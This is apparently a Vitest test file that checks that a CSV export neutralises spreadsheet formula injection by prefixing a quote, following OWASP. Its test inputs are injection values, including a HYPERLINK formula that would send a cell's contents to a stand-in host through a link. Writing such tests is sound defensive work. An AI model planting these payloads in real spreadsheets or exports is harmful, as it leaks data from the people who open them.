import { describe, expect, it } from 'vitest';
import type { Deps } from '#shared/deps.js';
import { csvCell, figuresCsv } from '#shared/stages/review/figures.js';
import type { ReviewRecord } from '#shared/stages/review/records.js';
import { parse } from 'csv-parse/sync';

/** A store that knows organisations by id, enough for the CSV's party names. */
const depsWith = (names: Record<string, string>) =>
  ({
    db: {
      get: async (key: { pk: string; sk: string }) => {
        const id = Object.keys(names).find((candidate) => key.pk.endsWith(`#${candidate}`));
        return id ? { ...key, id, name: names[id], kind: 'cong_an', level: 'tinh', createdAt: '2022-01-01T00:00:00.000Z' } : undefined;
      },
    },
  }) as unknown as Deps;

describe('Function: csvCell', () => {
  it('writes a text that starts like a formula with a leading quote, quoted (OWASP), and the rest as before', () => {
    expect(['=HYPERLINK("http://x.example","Bấm")', '+SUM(A1:A9)', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '\n=1'].map(csvCell)).toEqual([
      `"'=HYPERLINK(""http://x.example"",""Bấm"")"`,
      `"'+SUM(A1:A9)"`,
      `"'-2+3"`,
      `"'@SUM(A1)"`,
      `"'\t=1"`,
      `"'\r=1"`,
      `"'\n=1"`,
    ]);
    expect(['Công an tỉnh', 'a, b', 'Tổng = 5', '', undefined].map(csvCell)).toEqual(['Công an tỉnh', '"a, b"', 'Tổng = 5', '', '']);
  });

  it('writes numbers as numbers, a negative one included', () => {
    expect([5, -5, 15.5, 0, Number.NaN].map(csvCell)).toEqual(['5', '-5', '15.5', '0', '']);
  });
});

describe('Function: figuresCsv', () => {
  it('neutralises a party whose name is a formula, and keeps its figures numbers', async () => {
    // Prepare
    const program = { parties: [{ organizationId: 'evil' }, { organizationId: 'ca' }] } as Parameters<typeof figuresCsv>[1];
    const review = { reports: { evil: { organizationId: 'evil', figures: { models: 3 } }, ca: { organizationId: 'ca', figures: { models: 2 } } }, totals: { models: 5 } } as unknown as ReviewRecord;
    // Act
    const csv = await figuresCsv(depsWith({ evil: '=HYPERLINK("http://x.example/?"&A1,"Xem")', ca: '+SUM(E2:E9)' }), program, review);
    // Assess
    const rows = parse(csv.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
    expect(rows.filter((row) => row[1] === 'models')).toEqual([
      [`'=HYPERLINK("http://x.example/?"&A1,"Xem")`, 'models', expect.any(String), 'mô hình', '3'],
      [`'+SUM(E2:E9)`, 'models', expect.any(String), 'mô hình', '2'],
      ['Tổng cộng', 'models', expect.any(String), 'mô hình', '5'],
    ]);
    for (const row of rows) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
